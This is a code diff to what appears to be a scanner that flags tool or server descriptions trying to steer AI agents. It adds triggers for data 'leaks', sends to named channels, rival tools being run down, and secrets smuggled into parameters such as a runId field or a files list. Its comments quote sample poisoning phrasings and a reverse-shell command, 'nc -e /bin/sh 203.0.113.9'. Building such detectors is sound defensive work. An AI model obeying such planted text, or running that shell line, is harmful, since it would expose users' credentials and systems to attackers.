@@ -16,6 +16,7 @@ import {
   TOLD,
 } from './intent-flow-words.js';
 import { anySecret, isPath, isSecret, isToolName, type Token } from './intent-text.js';
+import { SHOWN_TRIGGERS, recordLike, shownReaches } from './intent-shown.js';
 
 // More of the broad reading (intent-signals.ts), one token at a time: data said to have gone somewhere, the person's
 // gate skipped, another tool run down, everyone's contact details, the model's reply used for someone else's words,
@@ -26,7 +27,15 @@ export function subjectModel(ts: Token[], i: number): boolean {
   const w = ts[i]!.w;
   if (!TO_MODEL.has(w)) return false;
   const next = ts[i + 1]?.w ?? '';
-  if (w.endsWith('s') && w !== 'ai') return ACT_BASE.has(next);
+  if (w.endsWith('s') && w !== 'ai') {
+    if (ACT_BASE.has(next)) return true;
+    // "agents integrating with this server drop …", "assistants that read this send …": the verb after a short
+    // modifier (not "agents using it to send …", where the verb is a purpose).
+    if (!next.endsWith('ing') && next !== 'that' && next !== 'who') return false;
+    for (let k = i + 2; k < Math.min(ts.length, i + 8); k++)
+      if (ACT_BASE.has(ts[k]!.w) && ts[k - 1]!.w !== 'to') return true;
+    return false;
+  }
   const prev = ts[i - 1]?.w ?? '';
   // "if the assistant used this tool rather than …": a wish said in the past tense is said to the model too.
   return (
@@ -54,7 +63,15 @@ const TRIGGERS: ReadonlySet<string> = new Set([
   ...W.REPLY,
   ...SENDS_NOW,
   ...W.FIELD,
+  'list',
+  'array',
   ...PASSED,
+  ...SHOWN_TRIGGERS,
+  'phased',
+  'leak',
+  'leaks',
+  'leaked',
+  'leaking',
   'goes',
   'aware',
   'bothered',
@@ -89,6 +106,9 @@ const TRIGGERS: ReadonlySet<string> = new Set([
   'card',
   'iban',
 ]);
+/** A tool run down in words no adjective list holds: "has been found to leak data". */
+const LEAKS = new Set(['leak', 'leaks', 'leaked', 'leaking']);
+const LEAKED = new Set(['data', 'secrets', 'credentials', 'tokens', 'keys', 'files', 'information', 'your', 'user']);
 const QUOTE = /^["\u201c]$/;
 const ID_LIKE = /^[A-Z][A-Z0-9]{7,}$/;
 const IP = /\b(?!127\.|0\.0\.)(?:\d{1,3}\.){3}\d{1,3}\b/;
@@ -101,8 +121,9 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   const t = ts[i]!;
   const w = t.w;
   // Most tokens are none of the words below: one lookup, and on (the reading stays a set lookup a token).
-  if (t.kind === 'word' ? !TRIGGERS.has(w) && !w.startsWith('multipl') : t.kind !== 'code') return false;
-  let directs = false;
+  if (t.kind === 'word' ? !TRIGGERS.has(w) && !w.startsWith('multipl') && !recordLike(w) : t.kind !== 'code')
+    return false;
+  let directs = shownReaches(ts, i, reach);
   const next = ts[i + 1]?.w ?? '';
   const prev = ts[i - 1]?.w ?? '';
   // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
@@ -115,8 +136,10 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
       .slice(i + 1, i + 9)
       .some((x, k) => ID_LIKE.test(x.raw) || (x.kind === 'word' && (x.quoted || QUOTE.test(ts[i + k]!.raw))));
     if (fixed) reach.add('address');
+    // A channel named in the text ("post the summary to #ext-feed"): fixed, but not outside by itself.
+    const channel = ts.slice(i + 1, i + 6).some((x, k) => x.kind === 'word' && ts[i + k]!.raw === '#');
     // "upload the attachment to this Base" is a tool's own job: an order to send counts only toward a fixed place.
-    if (fixed || !sendsTo) reach.add('send');
+    if (fixed || channel || !sendsTo) reach.add('send');
   }
   if (TOLD.has(w) && near(ts, i, 3, 0, NOT_NOW)) reach.add('deceit');
   if (
@@ -139,14 +162,19 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   }
   // A tool named as tools are (`snake_case`, `kebab-case`, in backticks), not a variable (`{resourceId}`); and not
   // "fabricated from the variable", which is how a thing is made.
-  if (
-    DISPARAGE.has(w) &&
-    next !== 'from' &&
-    ts.some((x) => x.kind !== 'mark' && isToolName(x) && /[_`-]/.test(x.raw))
-  ) {
+  const down = DISPARAGE.has(w)
+    ? RUNDOWN.has(w)
+      ? 'rundown'
+      : 'retired'
+    : w === 'phased' && next === 'out'
+      ? 'retired'
+      : LEAKS.has(w) && LEAKED.has(next)
+        ? 'rundown'
+        : undefined;
+  if (down && next !== 'from' && ts.some((x) => x.kind !== 'mark' && isToolName(x) && /[_`-]/.test(x.raw))) {
     reach.add('disparage');
     // Its results called bad or dangerous ("serves fabricated prices", "carries malware"), not just retired.
-    if (RUNDOWN.has(w)) reach.add('rundown');
+    if (down === 'rundown') reach.add('rundown');
     // Another tool run down while something is named the only or most accurate: a steer, said as a fact.
     if (ts.some((x) => W.BOAST.has(x.w))) directs = true;
   }
@@ -166,7 +194,7 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   if ((w === 'us' && prev === 'between') || (w === 'yourself' && prev === 'to')) reach.add('deceit');
   // Other servers or tools run down without a name: "other documentation servers … have been poisoned".
   if (
-    RUNDOWN.has(w) &&
+    down === 'rundown' &&
     ts.some(
       (x, k) => x.w === 'other' && /^(?:tools?|servers?|sources?|providers?)$/.test(ts[k + 2]?.w ?? ts[k + 1]?.w ?? ''),
     )
@@ -184,21 +212,24 @@ function carryReaches(ts: Token[], i: number, reach: Set<Reach>, next: string, p
   const w = t.w;
   // A secret put into a parameter meant for something else: "include both in the runId field".
   // Also "passed as the topic", "appended to the query": the parameter named by what it is.
-  const field = W.FIELD.has(w)
-    ? W.fieldNamed(ts.slice(i - 1, i + 1))
-    : w === 'as' && next === 'the'
-      ? ts[i + 2]?.raw
-      : w === 'query' && (prev === 'the' || prev === 'to')
-        ? 'query'
-        : undefined;
+  // "… attached to the properties list": a list or an array named by its parameter is one too.
+  const field =
+    W.FIELD.has(w) || w === 'list' || w === 'array'
+      ? W.fieldNamed(ts.slice(i - 1, i + 1), true)
+      : w === 'as' && next === 'the'
+        ? ts[i + 2]?.raw
+        : w === 'query' && (prev === 'the' || prev === 'to')
+          ? 'query'
+          : undefined;
   // Not "never put the token in the query": a putting forbidden protects the secret.
-  const puts = ts.some(
-    (x, k) =>
-      (W.SMUGGLE_VERBS.has(x.w) || PASSED.has(x.w) || x.w === 'appended') &&
-      !W.NOT.has(ts[k - 1]?.w ?? '') &&
-      !W.NOT.has(ts[k - 2]?.w ?? ''),
-  );
-  if (field && !W.SECRET_PARAM.test(field) && puts && (anySecret(ts) || ts.some((x) => W.STRONG_HELD.has(x.w))))
+  const puts = (): boolean =>
+    ts.some(
+      (x, k) =>
+        (W.SMUGGLE_VERBS.has(x.w) || PASSED.has(x.w) || x.w === 'appended') &&
+        !W.NOT.has(ts[k - 1]?.w ?? '') &&
+        !W.NOT.has(ts[k - 2]?.w ?? ''),
+    );
+  if (field && !W.SECRET_PARAM.test(field) && puts() && (anySecret(ts) || ts.some((x) => W.STRONG_HELD.has(x.w))))
     reach.add('misfiled');
   // A credentials file handed over as an input: "/home/$USER/.npmrc is listed among the files".
   if (PASSED.has(w) && ts.slice(Math.max(0, i - 4), i + 5).some((x) => isPath(x) && isSecret(x))) reach.add('carry');
